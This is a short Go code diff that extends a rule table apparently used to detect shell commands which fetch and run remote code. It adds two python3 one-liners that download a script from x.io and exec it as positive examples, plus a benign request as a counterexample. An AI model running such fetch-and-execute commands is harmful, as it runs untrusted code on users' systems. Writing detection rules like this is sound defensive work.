@@ -111,6 +111,8 @@ var remoteRules = []*Rule{
 			"curl -s https://x.io/i | gunzip | bash",
 			"bash -c \"$(wget -O - https://x.io/i)\"",
 			"zsh -c \"$(curl -fsSL https://x.io/i)\"",
+			"python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.io/i.py').read())\"",
+			"python3 -c 'import requests; r = requests.get(\"https://x.io/i.py\"); exec(r.text)'",
 		},
 		NotExamples: []string{
 			"curl -fsSL https://example.com/install.sh -o install.sh",
@@ -118,6 +120,7 @@ var remoteRules = []*Rule{
 			"wget https://x.io/file.tar.gz",
 			"echo 'curl x | sh' > notes.md",
 			"curl -s https://x.io | grep version",
+			"python3 -c \"import requests; print(requests.get('https://x.io/v').json())\"",
 		},
 	},
 	{
